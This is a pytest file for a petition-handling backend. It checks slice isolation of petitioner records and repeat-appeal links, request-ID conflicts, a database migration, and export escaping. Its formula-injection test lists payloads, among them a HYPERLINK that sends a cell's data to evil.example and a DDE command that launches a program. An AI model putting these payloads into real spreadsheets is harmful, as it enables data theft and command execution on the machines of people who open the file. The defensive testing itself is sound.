"""What a submission may not do (issue 9): rewrite another slice's petitioner, tell a
partner of appeals outside its slice, or turn a retry into a different appeal; and no
exported cell is a live formula."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator
from datetime import datetime, timedelta

import pytest
from alembic import command
from openpyxl import load_workbook
from sqlalchemy import select

from db import migrate, models
from db.config import Settings, load_settings
from db.engine import create_engine, create_sessionmaker
from db.models import Category, Channel, Level, Matter
from tests import factories
from tests.conftest import BACKEND, _pg_admin, _pg_url
from tests.factories import submit
from tests.staff import StaffBrowser
from tests.steps import step, timeline
from tests.streams import subscription

PETITIONER = """
query($id: ID!) {
  petition(id: $id) {
    version
    petitioner { name idNumber phone address masked }
    events { kind data }
  }
}
"""

REPEATS = """
query($id: ID!) {
  petition(id: $id) {
    repeatCount levelSkipping repeatOf { number }
    events { kind data }
  }
}
"""

UPDATE = """
mutation($id: ID!, $name: String, $phone: String, $address: String) {
  updatePetitioner(id: $id, name: $name, phone: $phone, address: $address) {
    petitioner { name phone address }
    events { kind data }
  }
}
"""

AUDIT = "{ auditLog(first: 20) { entries { action objectKind detail } } }"

MARKED = """
query($text: String!, $repeat: Boolean) {
  petitions(filter: {text: $text, repeat: $repeat}) { totalCount }
}
"""

STATS = """
query($day: Date!) {
  stats(period: {from: $day, to: $day}, groupBy: STREET) { total { received repeats } }
}
"""

ORIGINAL = {"name": "王原", "phone": "13911112222", "address": "坪山区六联社区一号"}
FORGED = {"name": "冒名者", "phone": "13000000000", "address": "别处地址"}


async def _petitioner(client, appeal_id: str) -> dict:
    return (await client.data(PETITIONER, {"id": appeal_id}))["petition"]["petitioner"]


# --- 2: a submission never changes what another slice sees ---------------------------


async def test_another_organisations_submission_leaves_the_petitioner_as_given(
    window, client_for, sign_in_as
):
    # Given the Liulian window's appeal of a person, with her phone
    marker = f"冒名{uuid.uuid4().hex[:6]}"
    id_number = factories.resident_id()
    theirs = await submit(
        window, title=f"{marker} 原", petitioner={"idNumber": id_number, **ORIGINAL}
    )
    other_window = await client_for(factories.OTHER_WINDOW)

    # When the Maluan window submits with her ID number and other contact details,
    # and again with her ID number and no phone at all
    maluan = factories.OTHER_COMMUNITY
    forged = await submit(
        other_window,
        title=f"{marker} 冒",
        communityCode=maluan,
        petitioner={"idNumber": id_number, **FORGED},
    )
    bare = await submit(
        other_window,
        title=f"{marker} 空",
        communityCode=maluan,
        matter="FAMILY",
        petitioner={"idNumber": id_number, "name": "某人", "phone": None, "address": None},
    )

    # Then the Liulian window still sees what was given with its appeal: API, page, export
    shown = await _petitioner(window, theirs["id"])
    assert shown == {**ORIGINAL, "idNumber": id_number, "masked": False}
    clerk: StaffBrowser = await sign_in_as("window_clerk")
    page = (await clerk.get(f"/petitions/{theirs['number']}")).text
    assert ORIGINAL["phone"] in page and ORIGINAL["name"] in page
    assert FORGED["phone"] not in page and FORGED["name"] not in page
    exported = (await clerk.get(f"/petitions/export.csv?q={marker}")).content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(exported)) if r[0] == theirs["number"])
    assert row[13:16] == [ORIGINAL["name"], id_number, ORIGINAL["phone"]]
    # and the Maluan window sees what it gave, never her phone on the bare submission
    assert (await _petitioner(other_window, forged["id"]))["phone"] == FORGED["phone"]
    assert (await _petitioner(other_window, bare["id"]))["phone"] is None


async def test_only_the_hall_corrects_a_petitioners_record_and_it_is_audited(
    window, hall, client_for
):
    # Given two appeals of one person, one through each window
    id_number = factories.resident_id()
    first = await submit(window, petitioner={"idNumber": id_number, **ORIGINAL})
    other_window = await client_for(factories.OTHER_WINDOW)
    second = await submit(
        other_window,
        communityCode=factories.OTHER_COMMUNITY,
        matter="FAMILY",
        petitioner={"idNumber": id_number, **ORIGINAL},
    )

    # When the receiving window tries to correct it, it is refused
    refused = await window.error(UPDATE, {"id": first["id"], "phone": "13700000000"})
    assert refused["extensions"]["code"] == "FORBIDDEN"

    # When the hall corrects the phone on the first appeal
    corrected = (await hall.data(UPDATE, {"id": first["id"], "phone": "13700000000"}))[
        "updatePetitioner"
    ]

    # Then that appeal shows it, with an event naming what changed (not the value) ...
    assert corrected["petitioner"]["phone"] == "13700000000"
    event = corrected["events"][-1]
    assert event == {"kind": "PETITIONER_UPDATED", "data": {"changed": ["phone"]}}
    assert (await _petitioner(window, first["id"]))["phone"] == "13700000000"
    # ... the other appeal keeps what was given with it ...
    assert (await _petitioner(other_window, second["id"]))["phone"] == ORIGINAL["phone"]
    # ... and the audit log says who corrected which record, on which appeal
    auditor = await client_for(factories.HALL, scopes=("petitions:read", "admin"))
    entries = (await auditor.data(AUDIT))["auditLog"]["entries"]
    assert {
        "action": "UPDATE_PETITIONER",
        "objectKind": "Petitioner",
        "detail": {"petition": first["number"], "changed": ["phone"]},
    } in entries
    # and a bad phone is BAD_USER_INPUT with the field
    bad = await hall.error(UPDATE, {"id": first["id"], "phone": "12"})
    assert bad["extensions"] == {"code": "BAD_USER_INPUT", "field": "phone"}


# --- 3: a submission is not an oracle -------------------------------------------------


async def test_repeats_are_counted_within_the_callers_slice(window, hall, client_for, server):
    marker = f"重复{uuid.uuid4().hex[:6]}"
    id_number = factories.resident_id()
    person = {"idNumber": id_number}
    other_window = await client_for(factories.OTHER_WINDOW)
    # Given the Liulian window's open appeal of a person on wages
    unseen = await submit(
        window, title=f"{marker} 一", petitioner=person, receivedAt="2026-06-01T10:00:00+08:00"
    )
    token = other_window.http.headers["Authorization"].removeprefix("Bearer ")
    async with subscription(server.url, token) as stream:
        await stream.subscribe()
        await asyncio.sleep(0.3)

        # When the Maluan window submits the same matter for her at district level
        submitted = await submit(
            other_window,
            title=f"{marker} 二",
            petitioner=person,
            communityCode=factories.OTHER_COMMUNITY,
            level="DISTRICT",
            receivedAt="2026-07-16T10:00:00+08:00",
        )
        await step(other_window, "addNote", id=submitted["id"], text="完")

        # Then its stream carries no REPEAT_LINKED event naming the unseen appeal
        seen = await stream.events_until(lambda e: e["kind"] == "NOTE_ADDED")
    assert [e["kind"] for e in seen] == ["SUBMITTED", "NOTE_ADDED"]

    # and the answer, the appeal and its timeline tell it nothing of the unseen appeal
    assert submitted["repeatCount"] == 0
    theirs = (await other_window.data(REPEATS, {"id": submitted["id"]}))["petition"]
    assert theirs["repeatCount"] == 0 and theirs["levelSkipping"] is False
    assert theirs["repeatOf"] is None
    assert unseen["number"] not in str(theirs["events"])
    assert "REPEAT_LINKED" not in [e["kind"] for e in theirs["events"]]
    listed = await other_window.data(MARKED, {"text": marker, "repeat": True})
    assert listed["petitions"]["totalCount"] == 0

    # while the hall sees the whole picture
    full = (await hall.data(REPEATS, {"id": submitted["id"]}))["petition"]
    assert full["repeatCount"] == 1 and full["levelSkipping"] is True
    assert full["repeatOf"] == {"number": unseen["number"]}
    linked = [e for e in full["events"] if e["kind"] == "REPEAT_LINKED"]
    assert linked == [
        {"kind": "REPEAT_LINKED", "data": {"repeatOf": unseen["number"], "repeatCount": 1}}
    ]
    assert (await hall.data(MARKED, {"text": marker, "repeat": True}))["petitions"][
        "totalCount"
    ] == 1

    # When the Maluan window itself had an earlier one, it is told of that one only
    own = await submit(
        other_window,
        title=f"{marker} 三",
        petitioner=person,
        communityCode=factories.OTHER_COMMUNITY,
        receivedAt="2026-07-16T11:00:00+08:00",
    )
    third = (await other_window.data(REPEATS, {"id": own["id"]}))["petition"]
    assert third["repeatCount"] == 1 and third["repeatOf"] == {"number": submitted["number"]}
    assert [e["data"] for e in third["events"] if e["kind"] == "REPEAT_LINKED"] == [
        {"repeatOf": submitted["number"], "repeatCount": 1}
    ]
    assert (await hall.data(REPEATS, {"id": own["id"]}))["petition"]["repeatCount"] == 2
    # and its figures count as repeats only what it may know to be one
    figures = (await other_window.data(STATS, {"day": "2026-07-16"}))["stats"]["total"]
    assert (figures["received"], figures["repeats"]) == (2, 1)


async def test_the_appeal_page_shows_repeats_within_the_slice(window, client_for, sign_in_as):
    # Given an appeal at the Maluan window repeating one at the Liulian window
    person = {"idNumber": factories.resident_id()}
    other_window = await client_for(factories.OTHER_WINDOW)
    await submit(
        other_window,
        petitioner=person,
        communityCode=factories.OTHER_COMMUNITY,
        receivedAt="2026-06-01T10:00:00+08:00",
    )
    ours = await submit(window, petitioner=person)
    # Then the Liulian window's clerk is not told it repeats anything; the hall is
    clerk = await sign_in_as("window_clerk")
    hall = await sign_in_as("hall_dispatcher")
    assert "重复访" not in (await clerk.get(f"/petitions/{ours['number']}")).text
    assert "重复访" in (await hall.get(f"/petitions/{ours['number']}")).text
    events = (await timeline(window, ours["id"]))["events"]
    assert "REPEAT_LINKED" not in [e["kind"] for e in events]


# --- 13: a retry is the same submission, or a conflict --------------------------------


async def test_a_request_id_reused_with_other_content_is_a_conflict(window, hall):
    request_id = uuid.uuid4().hex
    marker = f"重试{request_id[:6]}"
    submission = factories.submission(title=marker, clientRequestId=request_id)
    first = (await window.data(factories.SUBMIT, {"input": submission}))["submitPetition"]

    # the same content again: the same appeal
    again = (await window.data(factories.SUBMIT, {"input": submission}))["submitPetition"]
    assert again["id"] == first["id"]
    # other content under the same id: CONFLICT, and nothing created
    for change in (
        {"title": f"{marker} 改"},
        {"category": "CONSULTATION"},
        {"petitioner": {**submission["petitioner"], "phone": "13700000000"}},
    ):
        error = await window.error(factories.SUBMIT, {"input": submission | change})
        assert error["extensions"] == {"code": "CONFLICT", "field": "clientRequestId"}, change
    listed = await hall.data(MARKED, {"text": marker})
    assert listed["petitions"]["totalCount"] == 1


# --- 5: no exported cell is a live formula ----------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
]


async def test_exports_neutralise_formula_payloads(window, sign_in_as):
    marker = f"公式{uuid.uuid4().hex[:6]}"
    for payload in PAYLOADS:
        await submit(
            window,
            title=f"{payload} {marker}",
            petitioner={"name": payload[:60], "idNumber": factories.resident_id()},
        )
    hall = await sign_in_as("hall_dispatcher")

    as_csv = (await hall.get(f"/petitions/export.csv?q={marker}")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(as_csv)))[1:]
    assert len(rows) == len(PAYLOADS)
    titles = sorted(r[1] for r in rows)
    assert titles == sorted(f"'{p} {marker}" for p in PAYLOADS)
    assert sorted(r[13] for r in rows) == sorted(f"'{p[:60]}" for p in PAYLOADS)

    as_xlsx = await hall.get(f"/petitions/export.xlsx?q={marker}")
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert sorted(c.value for c in cells if c.column == 2) == titles
    # plain values are left alone
    assert all(not str(c.value).startswith("'") for c in cells if c.column == 1)


# --- the migration: existing appeals get their details and repeat links -----------------


@pytest.fixture
async def fresh_settings(tmp_path) -> AsyncIterator[Settings]:
    """A database of its own (the session's one must stay at head)."""
    name = f"hub_migration_{uuid.uuid4().hex[:10]}"
    if BACKEND == "postgresql":
        await _pg_admin(f'CREATE DATABASE "{name}"')
        url = _pg_url(name)
    else:
        url = f"sqlite+aiosqlite:///{tmp_path}/{name}.db"
    yield load_settings(database_url=url, secret_key="x", var_dir=tmp_path)
    if BACKEND == "postgresql":
        await _pg_admin(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _appeal(org: int, level: Level, received: str, person: int, **more) -> models.Petition:
    at = datetime.fromisoformat(received)
    return models.Petition(**{
        "number": f"M-{uuid.uuid4().hex[:12]}", "title": "迁移", "category": Category.COMPLAINT,
        "matter": Matter.LABOUR_WAGES, "channel": Channel.WALK_IN, "level": level,
        "received_at": at, "received_by_id": org, "due_at": at + timedelta(days=9),
        "time_limit_days": 7, "petitioner_id": person, **more})  # fmt: skip


async def test_the_migration_backfills_details_and_repeat_links(fresh_settings):
    # Given appeals stored before this migration: a person, an open community-level appeal and a
    # district-level repeat of it, and an appeal on another matter
    engine = create_engine(fresh_settings)
    await migrate.upgrade(engine, fresh_settings)
    async with create_sessionmaker(engine)() as session:
        world = await factories.build_world(session)
        person = models.Petitioner(
            name="旧记录",
            id_number=factories.resident_id(),
            id_hash="h" * 64,
            phone="13912345678",
            address="旧地址",
        )
        session.add(person)
        await session.flush()
        window, hall = world.organisations[factories.WINDOW], world.organisations[factories.HALL]
        earlier = _appeal(window, Level.COMMUNITY, "2026-03-02T10:00:00+08:00", person.id)
        session.add(earlier)
        await session.flush()
        repeat = _appeal(
            hall,
            Level.DISTRICT,
            "2026-04-01T10:00:00+08:00",
            person.id,
            repeat_of_id=earlier.id,
            repeat_count=1,
            level_skipping=True,
        )
        other = _appeal(
            hall, Level.DISTRICT, "2026-04-02T10:00:00+08:00", person.id, matter=Matter.FAMILY
        )
        session.add_all([repeat, other])
        await session.commit()
        ids = (earlier.id, repeat.id, other.id)
    config = migrate.alembic_config(fresh_settings)

    def _back_and_forth(connection) -> None:
        config.attributes["connection"] = connection
        command.downgrade(config, "0007_slice_counts")  # to the revision before 0008
        command.upgrade(config, "head")

    async with engine.connect() as connection:
        await connection.run_sync(_back_and_forth)
        await connection.commit()

    # When the migration runs over them, then each appeal carries the record's details
    async with create_sessionmaker(engine)() as session:
        rows = (
            await session.execute(
                select(
                    models.Petition.petitioner_name,
                    models.Petition.petitioner_phone,
                    models.Petition.petitioner_address,
                ).where(models.Petition.id.in_(ids))
            )
        ).all()
        links = (await session.execute(select(models.PetitionRepeat))).all()
    await engine.dispose()
    assert set(rows) == {("旧记录", "13912345678", "旧地址")}
    # and the repeat is linked to the earlier appeal it skipped over, and only that
    assert [(r.petition_id, r.earlier_id, r.skipped_over) for (r,) in links] == [
        (ids[1], ids[0], True)
    ]
